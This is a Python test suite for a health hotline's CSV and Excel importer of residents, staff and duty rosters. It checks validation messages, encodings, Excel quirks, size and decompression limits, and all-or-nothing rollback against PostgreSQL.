"""`hotline import` (routing/importer.py): CSV lists, all or nothing, over a real PostgreSQL."""

from __future__ import annotations

import codecs
import re
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import asyncpg
import pytest

from routing.directory import Directory
from routing.importer import ImportRejected, import_csv
from routing.numbers import id_check_char
from routing.records import STAFF_MOBILE
from routing.sheets import SheetFile, parse_size
from store.pii import PiiVault, mask_id_number
from tests.conftest import run_cli
from tests.district import District, build_district, id_number, table_counts

SH = ZoneInfo("Asia/Shanghai")

# build_district's week: N001 is on the night shift 17:00 → 08:00 every night from 2026-11-22
# to 2026-11-28; 张桂兰 is a resident already; D002 left on 2026-10-23.
WEEK_OF = date(2026, 11, 22)
IN_DATABASE = id_number("19480312", "024")  # 张桂兰
MOTHER = id_number("19890520", "904")
CHILD = id_number("20190601", "913")
GRANDCHILD = id_number("20200815", "915")
OLD_MAN = id_number("19500101", "011")
RESIDENTS_HEADER = "name,id_number,phones,center,team,doctor,contract_start,contract_end"


def valid_id(birth: str, serial: str) -> str:
    """An ID number with a right check digit even for an impossible birth date."""
    first17 = "120116" + birth + serial
    return first17 + id_check_char(first17)


def wrong_check_digit(number: str) -> str:
    return number[:17] + ("0" if number[17] != "0" else "1")


@pytest.fixture
async def district(pool: asyncpg.Pool, vault: PiiVault) -> District:
    return await build_district(pool, vault, week_of=WEEK_OF)


def write_csv(folder: Path, text: str, *, bom: bool = False, name: str = "list.csv") -> Path:
    """The file as Excel's "CSV UTF-8" writes it: CRLF line ends, a BOM when asked."""
    path = folder / name
    path.write_bytes(("\ufeff" if bom else "").encode() + text.replace("\n", "\r\n").encode())
    return path


async def import_file(pool: asyncpg.Pool, vault: PiiVault, kind: str, path: Path) -> int:
    return await import_csv(pool, vault, kind, path, tz=SH)


# --- files that import ---------------------------------------------------------------------------

async def test_residents_with_bom_and_chinese_headers(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    path = write_csv(tmp_path, bom=True, text=(
        "姓名,身份证号,联系电话,社区卫生服务中心,团队,家庭医生工号,签约开始,签约结束,慢病,备注\n"
        f" 王淑珍 , {OLD_MAN.lower()} ,138-1000-0001；022-2532-1001,测试街,测试一团队,D001,"
        "2026/1/5,2026-12-31,高血压;糖尿病,老病号\n"
        "\n"
        ",,,,,,,,,\n"
        f"李建国,{MOTHER},\"13810000002, +86 138 1000 0002/13810000003\",测试街,,,,,,\n"
        f"赵秀英,{CHILD},13810000004,测试街,,D001,2026-01-01,2026-12-31,,\n"
    ))
    assert await import_file(pool, vault, "residents", path) == 3

    directory = Directory(pool, vault)
    caller = await directory.find_caller("13810000001")
    assert caller is not None and caller.name == "王淑珍" and caller.center_id == district.center_id
    (contract,) = caller.contracts
    assert contract.doctor.id == district.doctor_id
    assert (contract.starts_on, contract.ends_on) == (date(2026, 1, 5), date(2026, 12, 31))
    landline = await directory.find_caller("022-2532-1001")
    assert landline is not None and landline.resident_id == caller.resident_id

    no_contract = await directory.find_caller("13810000003")
    assert no_contract is not None and no_contract.name == "李建国" and no_contract.contracts == ()
    phones = await pool.fetchval("SELECT count(*) FROM resident_phones WHERE resident_id = $1",
                                 no_contract.resident_id)
    assert phones == 2  # the same number written twice is stored once

    stored = {r["name"]: r for r in await pool.fetch(
        "SELECT r.name, r.id_number_masked, c.team_id,"
        " ARRAY(SELECT condition FROM resident_conditions rc WHERE rc.resident_id = r.id"
        "       ORDER BY condition) AS conditions"
        " FROM residents r LEFT JOIN contracts c ON c.resident_id = r.id")}
    assert stored["王淑珍"]["id_number_masked"] == mask_id_number(OLD_MAN)
    assert stored["王淑珍"]["conditions"] == ["糖尿病", "高血压"]
    assert stored["赵秀英"]["team_id"] == district.team_id  # no team given: the doctor's


async def test_guardians_in_the_same_file_and_in_the_database(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    # the child comes before the mother; the grandchild's guardian is already a resident
    path = write_csv(tmp_path, text=(
        "name,id_number,phones,center,guardian_id_number,guardian_relation\n"
        f"刘子涵,{CHILD},13820000001,测试街,{MOTHER},母亲\n"
        f"陈静,{MOTHER},13820000002,测试街,,\n"
        f"刘小雨,{GRANDCHILD},13820000003,测试街,{IN_DATABASE},祖母\n"
    ))
    assert await import_file(pool, vault, "residents", path) == 3

    links = await pool.fetch(
        "SELECT c.name AS child, g.name AS guardian, l.relation FROM guardians l"
        " JOIN residents c ON c.id = l.child_id JOIN residents g ON g.id = l.guardian_id"
    )
    assert {tuple(r) for r in links} == {("刘子涵", "陈静", "母亲"), ("刘小雨", "张桂兰", "祖母")}
    (child,) = await Directory(pool, vault).show_residents(
        "13820000001", actor="test", reason="test", on=WEEK_OF)
    assert [g["relation"] for g in child.guardians] == ["母亲"]


async def test_staff_file(district: District, pool: asyncpg.Pool, vault: PiiVault,
                          tmp_path: Path) -> None:
    path = write_csv(tmp_path, text=(
        "staff_no,name,role,district,center,team,sip_uri,mobile\n"
        "D101,周医生,家庭医生,测试区,测试街,测试一团队,sip:1101@127.0.0.1,139-1111-2222\n"
        "N101,吴医生,Night_Doctor,测试区,测试街,,sip:3101@127.0.0.1,\n"
        "G101,郑客服,客服,测试区,,,sip:4101@127.0.0.1,\n"
        "X101,冯主任,区卫健委,测试区,,,,\n"
    ))
    assert await import_file(pool, vault, "staff", path) == 4

    rows = {r["staff_no"]: r for r in await pool.fetch(
        "SELECT staff_no, role, district_id, center_id, team_id, sip_uri, mobile_hash,"
        " mobile_masked FROM staff WHERE staff_no LIKE '_101'")}
    assert {no: r["role"] for no, r in rows.items()} == {
        "D101": "family_doctor", "N101": "night_doctor", "G101": "agent", "X101": "district_admin"}
    doctor = rows["D101"]
    assert (doctor["center_id"], doctor["team_id"]) == (district.center_id, district.team_id)
    assert doctor["sip_uri"] == "sip:1101@127.0.0.1"
    assert doctor["mobile_masked"] == "139****2222"
    assert doctor["mobile_hash"] == vault.lookup_hash(STAFF_MOBILE, "13911112222")
    assert (rows["N101"]["center_id"], rows["N101"]["team_id"]) == (district.center_id, None)
    assert rows["G101"]["center_id"] is None and rows["G101"]["district_id"] == district.district_id
    assert rows["X101"]["sip_uri"] is None and rows["X101"]["mobile_hash"] is None


async def test_roster_file(district: District, pool: asyncpg.Pool, vault: PiiVault,
                           tmp_path: Path) -> None:
    path = write_csv(tmp_path, text=(
        "医生工号,开始,结束,范围\n"
        "N001,2026-12-01 17:00,2026-12-02 08:00,测试街\n"
        "N001,2026-12-02T17:00:00+08:00,2026-12-03T00:00:00Z,全区\n"
        "D001,2026/12/5 8:00,2026/12/5 17:00,\n"
        "D001,2026-12-06 08:00,2026-12-06 17:00,district\n"
        # starts the moment N001's last night in the database ends: no overlap
        "N001,2026-11-29 08:00,2026-11-29 12:00,测试街\n"
    ))
    assert await import_file(pool, vault, "roster", path) == 5

    directory = Directory(pool, vault)
    (night,) = await directory.roster_at(datetime(2026, 12, 1, 23, 0, tzinfo=SH))
    assert (night.doctor.id, night.center_id) == (district.night_id, district.center_id)
    assert night.ends_at == datetime(2026, 12, 2, 8, 0, tzinfo=SH)
    (second,) = await directory.roster_at(datetime(2026, 12, 3, 7, 59, tzinfo=SH))
    assert second.center_id is None and second.ends_at == datetime(2026, 12, 3, 8, 0, tzinfo=SH)
    (weekend,) = await directory.roster_at(datetime(2026, 12, 5, 12, 0, tzinfo=SH))
    assert (weekend.doctor.id, weekend.center_id) == (district.doctor_id, None)
    district_ids = await pool.fetch("SELECT DISTINCT district_id FROM duty_shifts")
    assert [r["district_id"] for r in district_ids] == [district.district_id]


async def test_roster_kinds_and_ring_order(district: District, pool: asyncpg.Pool, vault: PiiVault,
                                           tmp_path: Path) -> None:
    path = write_csv(tmp_path, text=(
        "医生工号,开始,结束,范围,类型,顺序\n"
        "N001,2026-12-01 17:00,2026-12-02 08:00,测试街,值班,2\n"
        "D001,2026-12-01 17:00,2026-12-02 08:00,测试街,备班,\n"
        "N001,2026-12-02 17:00,2026-12-03 08:00,,,\n"
    ))
    assert await import_file(pool, vault, "roster", path) == 3
    rows = await pool.fetch("SELECT doctor_id, center_id, kind, ring_position FROM duty_shifts"
                            " WHERE starts_at >= '2026-12-01' ORDER BY starts_at, doctor_id")
    assert [tuple(r) for r in rows] == [
        (district.doctor_id, district.center_id, "backup", 1),
        (district.night_id, district.center_id, "duty", 2),
        (district.night_id, None, "backup", 1),  # a district-wide shift is a backup by default
    ]


# --- files that are refused ----------------------------------------------------------------------

def resident(number: str, phones: str = "13830000001", *, center: str = "测试街", team: str = "",
             doctor: str = "", dates: str = ",") -> str:
    return f"某人,{number},{phones},{center},{team},{doctor},{dates}"


GOOD = resident(OLD_MAN)
SHORT_ID = OLD_MAN[:17]
BAD_CHECK = wrong_check_digit(OLD_MAN)
FEBRUARY_30 = valid_id("19500230", "011")
STAFF_HEADER = "staff_no,name,role,district,center,team,sip_uri,mobile"
ROSTER_HEADER = "doctor,starts_at,ends_at,scope"

# (kind, file text (None: no file at all), [(line or None, a fragment of its problem)])
REFUSED = {
    "malformed phone": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n{resident(MOTHER, '1381234')}",
                        [(3, "mobile number '*****34' must have 11 digits")]),
    "phone with letters": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '1381234567o')}",
                           [(2, "phone number '138****567o' has characters other than digits")]),
    "no phone": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, ' ; ')}",
                 [(2, "phones (联系电话) has no phone number")]),
    "ID number too short": ("residents", f"{RESIDENTS_HEADER}\n{resident(SHORT_ID)}",
                            [(2, f"ID number {mask_id_number(SHORT_ID)}: must have 18 characters, not 17")]),
    "ID check digit": ("residents", f"{RESIDENTS_HEADER}\n{resident(BAD_CHECK)}",
                       [(2, f"ID number {mask_id_number(BAD_CHECK)}: check digit is wrong")]),
    "impossible birth date": ("residents", f"{RESIDENTS_HEADER}\n{resident(FEBRUARY_30)}",
                              [(2, f"ID number {mask_id_number(FEBRUARY_30)}: has an impossible birth date")]),
    "ID number as Excel number": ("residents", f"{RESIDENTS_HEADER}\n{resident('1.20116E+17')}",
                                  [(2, "Excel turned it into a number")]),
    "phone as Excel number": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '1.38E+10')}",
                              [(2, "phone number ******10: Excel turned it into a number; format the column as text")]),
    "staff mobile as Excel number": ("staff", f"{STAFF_HEADER}\nS001,甲,nurse,测试区,,,,1.39123E+10",
                                     [(2, "Excel turned it into a number")]),
    "landline without its 0": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '13830000001;2225321001')}",
                               [(2, "landline ********01 lost its leading 0: Excel turned it into a number")]),
    "foreign phone": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '+1 415 555 0123')}",
                      [(2, "is not a mainland China number (+86)")]),
    "value too long": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n{resident(MOTHER, center='街' * 1025)}",
                       [(3, "the value in column 4 has 1,025 characters; a value may have at most 1,024")]),
    "header value too long": ("residents", f"{RESIDENTS_HEADER},{'x' * 2000}\n{GOOD}",
                              [(1, "the value in column 9 has 2,000 characters")]),
    "row too long": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n{'x' * 70_000}\n{resident(MOTHER)}",
                     [(3, "a row longer than 65,536 characters")]),
    "quoted value across lines": ("residents", f'{RESIDENTS_HEADER}\n{GOOD}\n某人,"' + "很长\n" * 30_000 + '",,,',
                                  [(3, "a row longer than 65,536 characters")]),
    "xls workbook": ("residents", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
                     [(None, "an .xls workbook (Excel 97–2003)")]),
    "neither UTF-8 nor GB18030": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n".encode("gb18030") + b"\xff\xff,\x80\n",
                                  [(3, "the file is neither UTF-8 nor GB18030 (GBK) nor UTF-16 text")]),
    "broken xlsx": ("residents", b"PK\x03\x04" + bytes(100),
                    [(None, "not readable as an .xlsx workbook")]),
    "unknown doctor": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, doctor='D999', dates='2026-01-01,2026-12-31')}",
                       [(2, "unknown doctor 'D999'")]),
    "not a family doctor": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, doctor='A001', dates='2026-01-01,2026-12-31')}",
                            [(2, "A001 has role assistant, not family_doctor")]),
    "doctor without dates": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, doctor='D001')}",
                             [(2, "a contract with D001 needs contract_start (签约开始) and contract_end")]),
    "dates without doctor": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, dates='2026-01-01,2026-12-31')}",
                             [(2, "contract dates without doctor (家庭医生工号)")]),
    "contract inverted": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, doctor='D001', dates='2026-12-31,2026/1/1')}",
                          [(2, "the contract ends (2026-01-01) before it starts (2026-12-31)")]),
    "bad date": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, doctor='D001', dates='2026-02-30,2026-12-31')}",
                 [(2, "contract_start (签约开始) '2026-02-30' is not a date")]),
    "unknown center": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, center='不存在街')}",
                       [(2, "unknown center '不存在街'")]),
    "unknown team": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, team='九团队', doctor='D001', dates='2026-01-01,2026-12-31')}",
                     [(2, "unknown team '九团队' in center '测试街'")]),
    "same resident twice": ("residents", f"{RESIDENTS_HEADER}\n{GOOD}\n{resident(MOTHER)}\n{resident(OLD_MAN, '13830000009')}",
                            [(4, f"ID number {mask_id_number(OLD_MAN)} is also on line 2")]),
    "resident already in database": ("residents", f"{RESIDENTS_HEADER}\n{resident(IN_DATABASE)}",
                                     [(2, f"ID number {mask_id_number(IN_DATABASE)} is already in the database")]),
    "unknown guardian": ("residents", f"name,id_number,phones,center,guardian_id_number\n某人,{CHILD},13830000001,测试街,{MOTHER}",
                         [(2, f"guardian ID number {mask_id_number(MOTHER)} is neither in this file nor in the database")]),
    "unquoted comma": ("residents", f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '13830000001,13830000002')}",
                       [(2, "9 values but the header has 8 columns")]),
    "missing columns": ("residents", "name,center\n某人,测试街",
                        [(1, "missing column(s) id_number (身份证号), phones (联系电话)")]),
    "column twice": ("residents", f"{RESIDENTS_HEADER},姓名\n{GOOD},某人",
                     [(1, "two columns are name (姓名): 'name' and '姓名'")]),
    "empty file": ("residents", "", [(None, "the file is empty")]),
    "blank lines only": ("staff", "\n \n,,\n", [(None, "the file is empty")]),
    "header only": ("roster", f"{ROSTER_HEADER}\n\n", [(None, "the file has a header but no rows")]),
    "no such file": ("residents", None, [(None, "there is no such file")]),
    "staff number twice": ("staff", f"{STAFF_HEADER}\nS001,甲,nurse,测试区,,,,\nS002,乙,nurse,测试区,,,,\nS001,丙,护士,测试区,,,,",
                           [(4, "staff number 'S001' is also on line 2")]),
    "staff number in database": ("staff", f"{STAFF_HEADER}\nD001,甲,nurse,测试区,,,,",
                                 [(2, "staff number 'D001' is already in the database")]),
    "bad staff row": ("staff", f"{STAFF_HEADER}\nS001,甲,医生,外区,,一团队,1001@127.0.0.1,1390000",
                      [(2, "unknown role '医生'"), (2, "unknown district '外区'"),
                       (2, "a team needs its center (社区卫生服务中心)"),
                       (2, "sip_uri (软电话) '1001@127.0.0.1' must start with 'sip:'"),
                       (2, "mobile number '*****00' must have 11 digits")]),
    "staff center elsewhere": ("staff", f"{STAFF_HEADER}\nS001,甲,nurse,测试区,别的街,,,",
                               [(2, "unknown center '别的街' in district '测试区'")]),
    "shift inverted": ("roster", f"{ROSTER_HEADER}\nN001,2026-12-01 17:00,2026-12-01 08:00,",
                       [(2, "the shift ends (2026-12-01 08:00) before it starts (2026-12-01 17:00)")]),
    "shifts overlap in file": ("roster", f"{ROSTER_HEADER}\nN001,2026-12-01 17:00,2026-12-02 08:00,\nD001,2026-12-01 17:00,2026-12-02 08:00,\nN001,2026-12-02 07:00,2026-12-02 17:00,",
                               [(4, "doctor N001's shift overlaps the one on line 2")]),
    "shift overlaps database": ("roster", f"{ROSTER_HEADER}\nN001,2026-11-24 06:00,2026-11-24 10:00,测试街",
                                [(2, "doctor N001's shift overlaps one already on the roster (2026-11-23 17:00 – 2026-11-24 08:00)")]),
    "unknown roster doctor": ("roster", f"{ROSTER_HEADER}\nN999,2026-12-01 17:00,2026-12-02 08:00,",
                              [(2, "unknown doctor 'N999'")]),
    "doctor has left": ("roster", f"{ROSTER_HEADER}\nD002,2026-12-01 17:00,2026-12-02 08:00,",
                        [(2, "doctor D002 left on 2026-10-23")]),
    "agent on the roster": ("roster", f"{ROSTER_HEADER}\nG001,2026-12-01 17:00,2026-12-02 08:00,",
                            [(2, "G001 has role agent, not night_doctor or family_doctor")]),
    "bad kind and ring order": ("roster", "doctor,starts_at,ends_at,scope,kind,ring_order\n"
                                          "N001,2026-12-01 17:00,2026-12-02 08:00,测试街,夜班,0",
                                [(2, "kind (类型) '夜班' is not one of 值班/duty, 备班/backup"),
                                 (2, "ring_order (顺序) '0' must be a number from 1 to 9 (equal numbers ring together)")]),
    "bad time and scope": ("roster", f"{ROSTER_HEADER}\nN001,tonight,2026-12-02 08:00,别的街",
                           [(2, "starts_at (开始) 'tonight' is not a time"),
                            (2, "unknown center '别的街' in the district of doctor N001")]),
}


@pytest.mark.parametrize(("kind", "text", "expected"), REFUSED.values(), ids=REFUSED.keys())
async def test_refused_files_change_nothing(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path,
    kind: str, text: str | None, expected: list[tuple[int | None, str]],
) -> None:
    if text is None:
        path = tmp_path / "missing.csv"
    elif isinstance(text, bytes):
        path = tmp_path / "list.csv"
        path.write_bytes(text)
    else:
        path = write_csv(tmp_path, text)
    before = await table_counts(pool)
    with pytest.raises(ImportRejected) as rejected:
        await import_file(pool, vault, kind, path)
    assert_problems(rejected.value.problems, expected)
    assert await table_counts(pool) == before


def assert_problems(problems: list[str], expected: list[tuple[int | None, str]]) -> None:
    assert len(problems) == len(expected), problems
    for problem, (line, fragment) in zip(problems, expected, strict=True):
        if line is not None:
            assert problem.startswith(f"line {line}: "), problems
        assert fragment in problem, problems


# --- what Excel saves, as it saves it ---------------------------------------------------------

# GB18030 has characters GBK lacks (CJK extension A, 䶮); a name with one proves the superset.
EXCEL_ROWS = [
    ["姓名", "身份证号", "联系电话", "社区卫生服务中心", "家庭医生工号", "签约开始", "签约结束", "慢病"],
    ["王䶮", OLD_MAN, "138-3000-0001；022-2532-1001", "测试街", "D001", "2026/1/5", "2026-12-31", "高血压;糖尿病"],
    ["李建国", MOTHER, "+86 138 3000 0002", "测试街", "", "", "", ""],
]


def excel_text(rows: list[list[str]], sep: str) -> str:
    return "".join(sep.join(r) + "\r\n" for r in rows)


def write_xlsx(path: Path, rows: list[list[Any]], *, number_cells: bool = False) -> Path:
    """A workbook as Excel saves it, through openpyxl (which Excel's own files also go through)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "签约居民"
    for row in rows:
        sheet.append(row)
    workbook.create_sheet("说明").append(["only the first sheet is read"])
    workbook.save(path)
    return path


async def assert_excel_rows_imported(pool: asyncpg.Pool, vault: PiiVault) -> None:
    directory = Directory(pool, vault)
    wang = await directory.find_caller("13830000001")
    assert wang is not None and wang.name == "王䶮"
    assert (await directory.find_caller("02225321001")).resident_id == wang.resident_id
    (contract,) = wang.contracts
    assert (contract.starts_on, contract.ends_on) == (date(2026, 1, 5), date(2026, 12, 31))
    li = await directory.find_caller("8613830000002")
    assert li is not None and li.name == "李建国"
    conditions = await pool.fetchval("SELECT array_agg(condition ORDER BY condition) FROM resident_conditions"
                                     " WHERE resident_id = $1", wang.resident_id)
    assert conditions == ["糖尿病", "高血压"]


@pytest.mark.parametrize("form", ["gb18030 csv", "gbk csv", "utf-16 tab", "utf-16-be tab", "utf-8 tab", "xlsx"])
async def test_what_chinese_excel_saves_imports(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path, form: str
) -> None:
    rows = EXCEL_ROWS
    path = tmp_path / "list.csv"
    if form == "gb18030 csv":  # "CSV (逗号分隔)" of a Chinese Excel
        path.write_bytes(excel_text(rows, ",").encode("gb18030"))
    elif form == "gbk csv":  # the same from an older Excel: GBK, which has no 䶮
        rows = [[c.replace("䶮", "淑珍") for c in r] for r in rows]
        path.write_bytes(excel_text(rows, ",").encode("gbk"))
    elif form == "utf-16 tab":  # "Unicode 文本": UTF-16 LE with BOM, tab-separated
        path = tmp_path / "list.txt"
        path.write_bytes(excel_text(rows, "\t").encode("utf-16"))
    elif form == "utf-16-be tab":
        path.write_bytes(codecs.BOM_UTF16_BE + excel_text(rows, "\t").encode("utf-16-be"))
    elif form == "utf-8 tab":
        path.write_bytes(excel_text(rows, "\t").encode())
    else:
        path = write_xlsx(tmp_path / "list.xlsx", rows)
    assert await import_file(pool, vault, "residents", path) == 2
    if form == "gbk csv":
        assert (await Directory(pool, vault).find_caller("13830000001")).name == "王淑珍"
    else:
        await assert_excel_rows_imported(pool, vault)


async def test_an_xlsx_with_numbers_and_dates_in_cells(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    # cells as Excel types them when nobody formats the column as text: numbers and dates
    path = write_xlsx(tmp_path / "typed.xlsx", [
        ["name", "id_number", "phones", "center", "doctor", "contract_start", "contract_end"],
        ["甲", OLD_MAN, 13830000001, "测试街", "D001", datetime(2026, 1, 5), date(2026, 12, 31)],
        [],  # an empty row, skipped
        ["乙", MOTHER, "13830000002", "测试街", None, None, None],
    ])
    assert await import_file(pool, vault, "residents", path) == 2
    caller = await Directory(pool, vault).find_caller("13830000001")
    assert caller.name == "甲" and caller.contracts[0].starts_on == date(2026, 1, 5)


async def test_an_xlsx_with_problems_names_its_rows(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    path = write_xlsx(tmp_path / "bad.xlsx", [
        ["name", "id_number", "phones", "center"],
        ["甲", OLD_MAN, "13830000001", "测试街"],
        [],
        ["乙", float(int(MOTHER[:17])) * 10, 13830000002, "测试街"],  # the ID as Excel's number
        ["丙", CHILD, 1383000000.0, "测试街"],  # a phone as a number, a digit short
        ["丁", GRANDCHILD, 2225321001, "测试街"],  # a landline as a number: its 0 is gone
        ["戊", valid_id("19600101", "013"), "13830000005", "测试街", "a note without a header"],
    ])
    before = await table_counts(pool)
    with pytest.raises(ImportRejected) as rejected:
        await import_file(pool, vault, "residents", path)
    assert_problems(rejected.value.problems, [
        (4, "Excel turned it into a number; format the column as text"),
        (5, "mobile number '********00' must have 11 digits"),
        (6, "lost its leading 0: Excel turned it into a number"),
        (7, "5 values but the header has 4 columns: a value right of the last column with a header"),
    ])
    assert await table_counts(pool) == before


# --- files of any size ----------------------------------------------------------------------------

async def test_a_file_over_the_size_limit_is_refused_unread(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    big = write_csv(tmp_path, "\n".join([RESIDENTS_HEADER, GOOD] + [resident(OLD_MAN, "13830000001")] * 40_000))
    size = big.stat().st_size
    assert size > 2 * 1024 * 1024
    before = await table_counts(pool)
    with pytest.raises(ImportRejected) as rejected:
        await import_csv(pool, vault, "residents", big, tz=SH, max_size=1024 * 1024)
    (problem,) = rejected.value.problems
    assert re.match(r"the file has 2(\.\d)? MB; the limit is 1 MB \(--max-size\)", problem), problem
    # the same for a workbook
    workbook = write_xlsx(tmp_path / "big.xlsx", [["name"]] + [[f"某人{i}"] for i in range(20_000)])
    with pytest.raises(ImportRejected, match=r"the limit is 100 KB \(--max-size\)"):
        await import_csv(pool, vault, "residents", workbook, tz=SH, max_size=100 * 1024)
    assert await table_counts(pool) == before


async def test_an_xlsx_that_unpacks_too_far_is_refused(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    # a workbook small as a file whose sheet unpacks to more than the limit: what a zip bomb does
    workbook = write_xlsx(tmp_path / "bomb.xlsx", [["name"]] + [[f"{i:06d}" + "某" * 900] for i in range(300)])
    assert workbook.stat().st_size < 64 * 1024
    with pytest.raises(ImportRejected, match=r"the workbook unpacks to 8\d\d\.\d KB; the limit is 640 KB "
                                             r"\(10 × --max-size\)"):
        await import_csv(pool, vault, "residents", workbook, tz=SH, max_size=64 * 1024)

    # Excel keeps a sheet's text in sharedStrings.xml, which openpyxl holds in memory whole
    # (openpyxl itself writes inline strings, so the part is added here as Excel would have it)
    with_strings = tmp_path / "strings.xlsx"
    with zipfile.ZipFile(write_xlsx(tmp_path / "small.xlsx", [["name"], ["某人"]])) as source, \
            zipfile.ZipFile(with_strings, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            target.writestr(part, source.read(part))
        target.writestr("xl/sharedStrings.xml", "<sst>" + "<si><t>某人</t></si>" * 5_000 + "</sst>")
    assert with_strings.stat().st_size < 64 * 1024
    with pytest.raises(ImportRejected, match=r"the workbook's text \(sharedStrings.xml\) unpacks to 10\d\.\d KB; "
                                             r"the limit is 64 KB \(--max-size\)"):
        await import_csv(pool, vault, "residents", with_strings, tz=SH, max_size=64 * 1024)


async def test_too_many_problems_are_cut_short(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    path = write_csv(tmp_path, "\n".join([RESIDENTS_HEADER] + [resident(OLD_MAN, "1381234")] * 1_200))
    with pytest.raises(ImportRejected) as rejected:
        await import_file(pool, vault, "residents", path)
    problems = rejected.value.problems
    assert len(problems) == 1001
    assert problems[-1] == "… and 200 more problem(s) not shown: fix these and import again"


def test_a_file_changed_while_imported_is_noticed(tmp_path: Path) -> None:
    path = write_csv(tmp_path, f"{RESIDENTS_HEADER}\n{GOOD}")
    with SheetFile(path) as sheet:
        assert [line for line, _ in sheet.records()] == [1, 2]
        assert sheet.unchanged()
        with path.open("r+b") as f:  # in place, as an editor saving over it does
            f.seek(-1, 2)
            f.write(b"X")
        assert not sheet.unchanged()


@pytest.mark.parametrize(("text", "size"), [("50MB", 50 * 1024**2), ("200M", 200 * 1024**2), ("1G", 1024**3),
                                            ("1.5 GiB", int(1.5 * 1024**3)), ("800k", 800 * 1024), ("1000", 1000)])
def test_sizes(text: str, size: int) -> None:
    assert parse_size(text) == size


async def test_size_limits_through_the_cli(district: District, cli_env: dict[str, str], tmp_path: Path) -> None:
    # the default limit, 50 MB, on a sparse file: refused from its size alone, nothing read
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:
        f.write(f"{RESIDENTS_HEADER}\n".encode())
        f.truncate(51 * 1024 * 1024)
    result = run_cli(cli_env, "import", "residents", str(huge))
    assert result.returncode == 2, result.stderr
    assert "the file has 51 MB; the limit is 50 MB (--max-size)" in result.stderr

    small = write_csv(tmp_path, name="small.csv", text=f"{RESIDENTS_HEADER}\n{resident(OLD_MAN, '13830000001')}")
    result = run_cli(cli_env, "import", "residents", str(small), "--max-size", "100")
    assert result.returncode == 2 and "the limit is 100 bytes (--max-size)" in result.stderr
    result = run_cli(cli_env, "import", "residents", str(small), "--max-size", "lots")
    assert result.returncode == 2 and "--max-size: cannot read 'lots' as a size" in result.stderr
    result = run_cli(cli_env, "import", "residents", str(small), "--max-size", "1MB")
    assert result.returncode == 0, result.stderr

    # one huge value (5 MB on one line) in a file under the limit: refused at the row, read no further
    one_field = tmp_path / "one_field.csv"
    with one_field.open("w", encoding="utf-8") as f:
        f.write(f"{RESIDENTS_HEADER}\n某人,")
        f.write("9" * 5 * 1024 * 1024)
        f.write(",13830000009,测试街,,,,\n")
    result = run_cli(cli_env, "import", "residents", str(one_field))
    assert result.returncode == 2, result.stderr
    assert "line 2: a row longer than 65,536 characters (a value may have at most 1,024)" in result.stderr
    assert "Traceback" not in result.stderr


async def test_every_problem_of_the_file_is_reported_at_once(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    path = write_csv(tmp_path, text="\n".join([
        RESIDENTS_HEADER,
        resident(OLD_MAN),                                   # 2 fine
        resident(BAD_CHECK, "1381234"),                      # 3 two problems
        resident(MOTHER),                                    # 4 fine
        "",                                                  # 5 skipped
        resident(CHILD, center="不存在街"),                  # 6
        resident(OLD_MAN, "13830000002"),                    # 7 the same as line 2
        resident(GRANDCHILD, doctor="D999", dates="2026-01-01,2026-12-31"),  # 8
    ]))
    before = await table_counts(pool)
    with pytest.raises(ImportRejected) as rejected:
        await import_file(pool, vault, "residents", path)
    problems = rejected.value.problems
    assert [p.split(":")[0] for p in problems] == ["line 3", "line 3", "line 6", "line 7", "line 8"]
    assert "check digit is wrong" in problems[0] and "must have 11 digits" in problems[1]
    assert "5 problem(s)" in str(rejected.value)
    assert await table_counts(pool) == before


async def test_a_database_error_while_writing_rolls_everything_back(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    # A rule only the database knows, on the last table write_residents fills, so residents,
    # phones and contracts have been copied when it fails.
    await pool.execute("ALTER TABLE resident_conditions"
                       " ADD CONSTRAINT test_no_flu CHECK (condition <> '流感')")
    path = write_csv(tmp_path, text=(
        "name,id_number,phones,center,doctor,contract_start,contract_end,conditions\n"
        f"甲,{OLD_MAN},13830000001,测试街,D001,2026-01-01,2026-12-31,高血压\n"
        f"乙,{MOTHER},13830000002,测试街,D001,2026-01-01,2026-12-31,流感\n"
    ))
    before = await table_counts(pool)
    with pytest.raises(ImportRejected) as rejected:
        await import_file(pool, vault, "residents", path)
    (problem,) = rejected.value.problems
    assert problem.startswith("the database refused the rows, nothing was written")
    assert "test_no_flu" in problem
